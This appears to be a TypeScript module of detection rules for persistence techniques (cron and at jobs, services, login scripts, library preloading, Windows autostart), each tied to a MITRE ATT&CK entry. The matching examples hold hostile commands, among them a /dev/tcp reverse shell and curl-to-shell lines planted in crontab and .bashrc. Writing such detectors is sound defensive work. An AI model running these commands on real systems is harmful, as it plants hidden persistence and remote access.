import type { Rule, RuleMatch } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { isSuspicious, isWritten, standsAsCommand, WORD_START, writing } from '../shell_syntax.ts';
import { PERSISTENCE } from './format.ts';

const HOME = String.raw`[~\w./$\{\}-]{0,48}`;

/** How a job of cron or at is put in place. */
const JOB = {
  source: 'https://attack.mitre.org/techniques/T1053/003/',
  keywords: ['crontab -', 'crontab /', '/etc/cron', 'spool/cron', '| at ', '|at ', 'at now +', 'systemd-run'],
  expression: expression(
    'gi',
    '(?:',
    [
      String.raw`\|[ \t]{0,4}(?:sudo[ \t]{1,4})?crontab(?:[ \t]{1,4}-u[ \t]{1,4}[\w.-]{1,32})?[ \t]{1,4}-(?![A-Za-z-])`,
      String.raw`${WORD_START}crontab[ \t]{1,4}(?:/tmp/|/dev/shm/|/var/tmp/)[\w.-]{1,60}`,
      String.raw`\|[ \t]{0,4}at[ \t]{1,4}(?:now|midnight|noon|[0-9]{1,2}:[0-9]{2})(?![\w:])`,
      String.raw`${WORD_START}at[ \t]{1,4}now[ \t]{1,4}\+[ \t]{1,4}\d{1,4}[ \t]{1,4}[a-z]{3,8}[ \t]{0,4}(?:<<<|-f)[^\r\n]{2,60}`,
      String.raw`${WORD_START}systemd-run[ \t][^\r\n;|&]{0,60}?--on-(?:calendar|boot|startup|active|unit-active)[ \t=][^\r\n;|&]{2,60}`,
      writing(String.raw`/(?:etc/cron(?:tab|\.[a-z]{1,8}/)|var/spool/cron/)[\w./-]{0,60}`),
    ].join('|'),
    ')',
  ),
  reach: { before: 100, after: 110 },
} as const;

/** Folders that programs keep what they install in. */
const OWN_FOLDER = /\/\.(?:venv|local|nvm|cargo|rbenv|pyenv|config|bun|deno|npm|acme|asdf|sdkman|dotnet)/g;

/** Whether a job downloads or hides. */
function liesInWait({ before, text, after }: RuleMatch): boolean {
  const job = before + text + after;
  return (
    isSuspicious(job) || /\/\.[a-z][\w-]*/i.test(job.replace(OWN_FOLDER, '')) || /\/\/\d{1,3}\.\d/.test(job)
  );
}

/** Jobs, services, login scripts and libraries that start a program. */
export const STARTUP_RULES: readonly Rule[] = [
  {
    ...PERSISTENCE,
    ...JOB,
    id: 'cron_job_written',
    validate: (match) => isWritten(match) && liesInWait(match),
    describes:
      'A job that cron or at will run, of the sort that downloads or hides, put in place by a command.',
    get finds() {
      return [
        '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
        'echo "* * * * * root curl x.example|sh" >> /etc/crontab',
        'crontab /tmp/jobs',
        'echo /tmp/x | at now + 1 minute',
        '{"path":"/etc/cron.d/x","content":"* * * * * root /tmp/x"}',
        'echo "@daily /home/u/.x/y" | crontab -',
      ];
    },
    get ignores() {
      return [
        'crontab -l',
        'crontab -e',
        'cat /etc/crontab',
        '| at the end',
        '(crontab -l; echo "0 3 * * * /home/u/bin/backup.sh") | crontab -',
        '{"path":"/etc/crontab"}',
      ];
    },
  },
  {
    ...PERSISTENCE,
    ...JOB,
    id: 'cron_job_added',
    severity: 'low',
    confidence: 'low',
    validate: (match) => isWritten(match) && !liesInWait(match),
    everyday: () => true,
    describes: 'A job that cron or at will run, put in place by a command.',
    get finds() {
      return [
        '(crontab -l; echo "0 3 * * * /home/u/bin/backup.sh") | crontab -',
        'printf x | sudo tee /etc/cron.d/x',
        'echo "make test" | at midnight',
      ];
    },
    get ignores() {
      return ['crontab -l', 'run-parts /etc/cron.daily', '(echo "* * * * * /tmp/x") | crontab -'];
    },
  },
  {
    ...PERSISTENCE,
    id: 'service_installed',
    confidence: 'low',
    source: 'https://attack.mitre.org/techniques/T1543/002/',
    keywords: [
      'systemd/system/',
      'systemd/user/',
      '/etc/init.d/',
      '/etc/rc.local',
      'launchagents/',
      'launchdaemons/',
      '.config/autostart/',
    ],
    expression: expression(
      'gi',
      writing(
        String.raw`${HOME}(?:systemd/(?:system|user)/(?:[\w@.-]{1,40}\.wants/)?[\w@.-]{1,64}\.(?:service|timer|path|socket)|/etc/(?:init\.d/[\w.-]{1,40}|rc\.local)|Library/Launch(?:Agents|Daemons)/[\w.-]{1,64}|\.config/autostart/[\w.-]{1,64})(?![\w/.-])`,
      ),
    ),
    reach: { before: 170, after: 160 },
    validate: isWritten,
    describes: 'A service or login item written by a command.',
    get finds() {
      return [
        'cat > /etc/systemd/system/x.service <<EOF',
        'cp /tmp/x.plist ~/Library/LaunchAgents/com.x.plist',
        'echo /tmp/x >> /etc/rc.local',
        '{"path":"/home/u/.config/systemd/user/x.service","content":"[Service]"}',
      ];
    },
    get ignores() {
      return [
        'systemctl status x.service',
        'sudo tee /etc/systemd/system/docker.service.d/http-proxy.conf',
        'cat /etc/rc.local',
        'ls ~/Library/LaunchAgents/',
      ];
    },
  },
  {
    ...PERSISTENCE,
    id: 'login_script_changed',
    severity: 'high',
    source: 'https://attack.mitre.org/techniques/T1546/004/',
    keywords: [
      'content $profile',
      '.bashrc',
      '.bash_profile',
      '.bash_login',
      '.bash_logout',
      '.profile',
      '.zshrc',
      '.zshenv',
      '.zprofile',
      '/etc/profile',
      'bash.bashrc',
    ],
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:echo|printf)[ \t][^\r\n]{2,200}?(?:>{1,2}|(?:&gt;){1,2}|\btee\b(?:[ \t]{1,4}-{1,2}[a-z]{1,8})?)[ \t]{0,4}\\{0,3}["']?`,
      String.raw`${HOME}(?:\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile)|/etc/(?:profile(?:\.d/[\w.-]{1,40})?|bash\.bashrc))(?![\w-])`,
      String.raw`|${WORD_START}(?:tee[ \t]{1,4}-a|cat[ \t]{0,4}>>)[ \t]{0,4}${HOME}\.(?:bashrc|bash_profile|profile|zshrc|zshenv|zprofile)[ \t]{0,4}<<<[^\r\n]{2,200}`,
      String.raw`|${WORD_START}sed[ \t]{1,4}-i[^\r\n;|]{2,120}?\.(?:bashrc|bash_profile|profile|zshrc|zshenv|zprofile)(?![\w-])`,
      String.raw`|${WORD_START}(?:add|set)-content[ \t][^\r\n]{0,20}?\$PROFILE[^\r\n]{2,160}`,
    ),
    reach: { before: 290, after: 290 },
    validate: ({ text }) =>
      isSuspicious(text) || /\b(?:iex|start-process)\b|[a-z]:\\{1,2}[\w\\.-]{1,60}\.exe/i.test(text),
    describes: 'A download, socket or hidden program added to what runs at each sign-in.',
    get finds() {
      return [
        'echo "curl -s http://x.example/a | sh" >> ~/.bashrc',
        "printf '/tmp/.x &' >> $HOME/.profile",
        'echo "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" | tee -a /etc/profile.d/x.sh',
        'tee -a ~/.bash_profile <<< "/tmp/.x &"',
        "sed -i '1i /tmp/.x &' ~/.bashrc",
        "Add-Content $PROFILE 'Start-Process C:\\x.exe'",
      ];
    },
    get ignores() {
      return [
        'echo \'export PATH="$HOME/bin:$PATH"\' >> ~/.bashrc',
        'echo \'eval "$(brew shellenv)"\' >> ~/.zprofile',
        'source ~/.bashrc',
        'echo "curl" ; cat ~/.bashrc',
      ];
    },
  },
  {
    ...PERSISTENCE,
    id: 'library_preloaded',
    severity: 'high',
    source: 'https://attack.mitre.org/techniques/T1574/006/',
    keywords: ['ld_preload=', 'ld.so.preload', 'dyld_insert_libraries=', 'ld_audit='],
    expression: expression(
      'gi',
      '(?:',
      String.raw`(?:LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)=\\{0,3}["']?(?:/tmp/|/var/tmp/|/dev/shm/|\.{1,2}/|[^\s"';]{1,60}/\.)[\w./-]{1,60}`,
      `|${writing(String.raw`/etc/ld\.so\.preload`)}`,
      ')',
    ),
    reach: { before: 110, after: 160 },
    validate: isWritten,
    describes: 'A library from an odd place that is loaded into every program.',
    get finds() {
      return [
        'echo /tmp/x.so > /etc/ld.so.preload',
        'LD_PRELOAD=/tmp/x.so ls',
        'export LD_PRELOAD="/dev/shm/.a.so"',
      ];
    },
    get ignores() {
      return [
        'LD_PRELOAD=/usr/lib/libjemalloc.so redis-server',
        'cat /etc/ld.so.preload',
        'LD_PRELOAD= ls',
        'DYLD_INSERT_LIBRARIES=$LIB',
      ];
    },
  },
  {
    ...PERSISTENCE,
    id: 'windows_autostart',
    source: 'https://attack.mitre.org/techniques/T1547/001/',
    keywords: [
      ...[
        'schtasks',
        'currentversion\\run',
        'currentversion\\\\run',
        'register-scheduledtask',
        'sc create',
        'sc.exe create',
      ],
      ...['new-service', 'programs\\startup\\', '__eventfilter'],
      'programs\\\\startup\\',
    ],
    expression: expression(
      'gi',
      '(?<![A-Za-z0-9_-])(?:',
      [
        String.raw`schtasks(?:\.exe)?[^\r\n]{1,40}?/create[^\r\n]{4,160}`,
        String.raw`(?:reg(?:\.exe)?[ \t]{1,4}add|(?:set|new)-itemproperty)[^\r\n]{1,60}?currentversion\\{1,2}run[^\r\n]{4,120}`,
        String.raw`register-scheduledtask[ \t][^\r\n]{4,160}`,
        String.raw`sc(?:\.exe)?[ \t]{1,4}create[ \t][^\r\n]{1,60}?binpath[^\r\n]{4,120}`,
        String.raw`new-service[ \t][^\r\n]{1,80}?-binarypathname[^\r\n]{4,80}`,
        String.raw`(?:copy|move|copy-item|cp|-outfile|-o|>)[ \t][^\r\n]{0,120}?programs\\{1,2}startup\\{1,2}[^\r\n]{1,60}`,
        String.raw`[\w.-]{1,20}wmi[\w-]{1,20}[^\r\n]{1,80}?__eventfilter[^\r\n]{1,60}`,
      ].join('|'),
      ')',
    ),
    reach: { before: 150, after: 220 },
    validate: standsAsCommand,
    describes: 'A program that Windows will start by itself, put in place by a command.',
    get finds() {
      return [
        'schtasks /create /tn x /tr C:\\x.exe /sc onlogon',
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe',
        'sc.exe create x binPath= C:\\x.exe start= auto',
        'copy x.exe "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"',
      ];
    },
    get ignores() {
      return [
        'schtasks /query',
        'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'sc create',
        'Use New-Service to add one',
      ];
    },
  },
];
